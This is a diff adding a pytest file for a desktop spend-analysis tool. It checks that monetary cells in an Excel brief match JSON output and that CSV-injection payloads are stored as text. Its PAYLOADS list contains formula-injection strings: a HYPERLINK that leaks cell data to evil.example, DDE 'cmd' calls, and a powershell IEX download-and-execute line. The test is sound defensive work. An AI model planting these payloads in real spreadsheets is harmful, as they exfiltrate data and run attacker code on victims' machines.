@@ -1,0 +1,223 @@
+"""`python -m desktop brief`: money cells equal the analyze JSON to the cent, and text from data
+(OWASP CSV-injection payloads in usage, invoices, budgets and commitments) is written as text,
+never as a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.utils import range_boundaries
+
+from .helpers import CENT, analyze, run
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=2+2",
+    "＝HYPERLINK(\"http://evil.example\")",
+    "  =3+3",
+    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
+]
+FORMULA_LEAD = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+# ---------------------------------------------------------------------------- helpers
+
+def table(wb, name: str) -> list[dict]:
+    """Rows of the Excel table `name` as dicts keyed by the header (cell objects)."""
+    for ws in wb.worksheets:
+        if name in ws.tables:
+            c1, r1, c2, r2 = range_boundaries(ws.tables[name].ref)
+            head = [ws.cell(r1, c).value for c in range(c1, c2 + 1)]
+            return [{h: ws.cell(r, c1 + i) for i, h in enumerate(head)} for r in range(r1 + 1, r2 + 1)]
+    raise KeyError(name)
+
+
+def money(cell) -> Decimal:
+    """A money cell: a number Excel can sum, with no more than cents in it."""
+    assert isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool), (cell.coordinate, cell.value)
+    d = Decimal(repr(cell.value))
+    assert d == d.quantize(CENT), (cell.coordinate, cell.value)
+    return d.quantize(CENT)
+
+
+def dec(x) -> Decimal | None:
+    return None if x is None else Decimal(x)
+
+
+# ---------------------------------------------------------------------------- money vs JSON
+
+@pytest.fixture(scope="module")
+def demo_brief(tmp_path_factory):
+    from desktop.cli import main
+
+    out = tmp_path_factory.mktemp("brief") / "brief.xlsx"
+    assert main(["brief", "--demo", "--out", str(out)]) == 0
+    return openpyxl.load_workbook(out)
+
+
+@pytest.fixture(scope="module")
+def demo_json():
+    import contextlib
+    import json
+
+    from desktop.cli import main
+
+    buf = io.StringIO()
+    with contextlib.redirect_stdout(buf):
+        assert main(["analyze", "--demo", "--format", "json"]) == 0
+    return json.loads(buf.getvalue())
+
+
+PACING = {"Commitment": "commitment", "Carry in": "carry_in", "Consumed": "consumed", "Expected": "expected",
+          "Projected": "projected", "Shortfall": "shortfall", "Carry out": "carry_out",
+          "Shortfall penalty": "shortfall_penalty", "Overage": "overage", "Overage premium": "overage_premium"}
+
+
+def test_pacing_money_equals_json(demo_brief, demo_json):
+    rows = table(demo_brief, "Pacing")
+    want = {(c["contract_id"], p["period_start"]): p for c in demo_json["contracts"] for p in c["periods"]}
+    got = {(r["Contract"].value, r["Period start"].value.date().isoformat()): r for r in rows}
+    assert got.keys() == want.keys()
+    for k, r in got.items():
+        for col, key in PACING.items():
+            assert money(r[col]) == dec(want[k][key]), (k, col)
+        assert r["Pacing"].value == pytest.approx(want[k]["pacing_ratio"]) if want[k]["pacing_ratio"] is not None \
+            else r["Pacing"].value is None
+
+
+def test_exposure_money_equals_json(demo_brief, demo_json):
+    cols = {"Commitment": "commitment", "Consumed to date": "consumed_to_date",
+            "Expected to date": "expected_to_date", "Run rate / day": "run_rate",
+            "Projected consumption": "projected_consumption", "Shortfall exposure": "shortfall_exposure",
+            "Overage": "overage", "Overage premium": "overage_premium"}
+    got = {r["Contract"].value: r for r in table(demo_brief, "Exposure")}
+    want = {c["contract_id"]: c for c in demo_json["contracts"]}
+    assert got.keys() == want.keys()
+    for k, r in got.items():
+        for col, key in cols.items():
+            assert money(r[col]) == dec(want[k][key]), (k, col)
+        rr = want[k]["required_run_rate"]
+        assert (r["Required run rate / day"].value is None) if rr is None else money(r["Required run rate / day"]) == dec(rr)
+
+
+def test_invoice_money_equals_json(demo_brief, demo_json):
+    cols = {"Invoiced (excl. tax)": "invoiced", "Expected (usage)": "expected", "Variance": "variance",
+            "Tax": "tax", "Premium leakage": "premium_leakage"}
+    got = {r["Invoice"].value: r for r in table(demo_brief, "Invoices")}
+    want = {i["invoice_id"]: i for i in demo_json["invoices"]}
+    assert got.keys() == want.keys()
+    for k, r in got.items():
+        for col, key in cols.items():
+            assert money(r[col]) == dec(want[k][key]), (k, col)
+        assert r["Status"].value == want[k]["status"]
+    flags = sorted((r["Invoice"].value, r["Line"].value, r["Flag"].value, money(r["Leakage"]))
+                   for r in table(demo_brief, "FlaggedLines"))
+    assert flags == sorted((i["invoice_id"], f["line"], f["flag"], dec(f["leakage"]))
+                           for i in demo_json["invoices"] for f in i["flags"])
+    assert flags, "the demo has flagged lines"
+
+
+def test_budget_money_equals_json(demo_brief, demo_json):
+    cols = {"Budget": "budget", "Actual": "actual", "Forecast": "forecast", "Variance": "variance"}
+    got = {(r["Allocation"].value, r["Month"].value): r for r in table(demo_brief, "Budgets")}
+    want = {(b["allocation"], b["month"]): b for b in demo_json["budgets"]}
+    assert got.keys() == want.keys()
+    for k, r in got.items():
+        for col, key in cols.items():
+            assert money(r[col]) == dec(want[k][key]), (k, col)
+        assert (r["Severity"].value, r["Alert tier"].value) == (want[k]["severity"], want[k]["alert_tier"])
+
+
+def test_no_formula_outside_the_briefs_own(demo_brief):
+    """Formulas only where the brief puts them on purpose (renewal inputs, the overdue flag)."""
+    for ws in demo_brief.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    assert ws.title in ("Renewal", "Actions"), (ws.title, cell.coordinate, cell.value)
+
+
+# ---------------------------------------------------------------------------- injection
+
+def _csv(path: Path, header: list[str], rows: list[list]) -> Path:
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\r\n")  # so that a field holding CR is quoted
+    w.writerow(header)
+    w.writerows(rows)
+    path.write_bytes(buf.getvalue().encode("utf-8"))
+    return path
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    d = tmp_path_factory.mktemp("inj")
+    start = date(2026, 2, 1)
+    usage = []
+    for day in range(40):
+        when = (start + timedelta(days=day)).isoformat()
+        for i, p in enumerate(PAYLOADS):
+            cost = "100.00" if not (day == 39 and i == 0) else "5000.00"  # a spike: an anomaly
+            usage.append([when, "OpenAI", p, p, p, p, "gpt-4o", cost])
+            usage.append([when, "Anthropic", p, p, p, p, "claude-sonnet-4", "10.00"])
+    usage.append(["2026-02-03", "OpenAI", "Search", "p", "CC-1", "w", "gpt-4o", "=1+1"])  # rejected
+    u = _csv(d / "usage.csv", ["date", "vendor", "team", "project", "cost_center", "workload", "model", "cost"], usage)
+    inv = []
+    for p in PAYLOADS:
+        inv.append([p, "OpenAI", "2026-03-03", "2026-02-01", "2026-02-28", p, "gpt-4o", "10", "1.5", "15.00"])
+        inv.append([p, "OpenAI", "2026-03-03", "2026-02-01", "2026-02-28", p, "gpt-4o", "10", "1.5", "15.00"])
+    v = _csv(d / "invoices.csv", ["invoice_id", "vendor", "invoice_date", "period_start", "period_end",
+                                  "description", "model", "quantity", "unit_price", "amount"], inv)
+    b = _csv(d / "budgets.csv", ["allocation", "month", "budget", "dimension", "value", "owner", "containment_owner"],
+             [[p, "2026-03", "50.00", "team", p, p, p] for p in PAYLOADS])
+    c = _csv(d / "commitments.csv", ["contract_id", "vendor", "period_start", "period_end", "commitment",
+                                     "owner", "escalation_owner", "clause"],
+             [["=C1+C2", "OpenAI", "2026-01-01", "2026-12-31", "5000000.00", PAYLOADS[1], PAYLOADS[0], PAYLOADS[2]]])
+    return d, ["--usage", u, "--invoices", v, "--budgets", b, "--contracts", c]
+
+
+def test_injection_payloads_are_text(hostile, capsys):
+    d, flags = hostile
+    out = d / "brief.xlsx"
+    status, _, err = run(capsys, "brief", *flags, "--out", out)
+    assert status == 0, err
+    wb = openpyxl.load_workbook(out)
+    seen: dict[str, int] = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                v = cell.value
+                if not isinstance(v, str):
+                    continue
+                text = v.replace("_x000D_", "\r")
+                if cell.data_type == "f":
+                    for frag in ("HYPERLINK", "cmd|", "SUM(1+1)", "1+1", "2+2", "3+3", "C1+C2", "evil"):
+                        assert frag not in text, (ws.title, cell.coordinate, v)
+                    continue
+                stripped = text.lstrip(" \u00a0\u3000")
+                if stripped[:1] in FORMULA_LEAD:
+                    assert cell.quotePrefix, (ws.title, cell.coordinate, v)
+                for p in PAYLOADS + ["=C1+C2", "=1+1"]:
+                    if p.strip() in text:
+                        seen[p] = seen.get(p, 0) + 1
+    # each payload made it into the brief (as text), somewhere
+    missing = [p for p in PAYLOADS if not seen.get(p)]
+    assert not missing, missing
+    assert seen.get("=C1+C2")
+
+
+def test_injection_analyze_json_keeps_payloads_verbatim(hostile, capsys):
+    _, flags = hostile
+    d = analyze(capsys, *flags)
+    assert {i["invoice_id"] for i in d["invoices"]} == {p.strip() for p in PAYLOADS}
+    rep = {r["kind"]: r for r in d["imports"]}["usage"]
+    assert rep["rows_rejected"] == 1 and rep["errors"][0]["column"] == "cost"
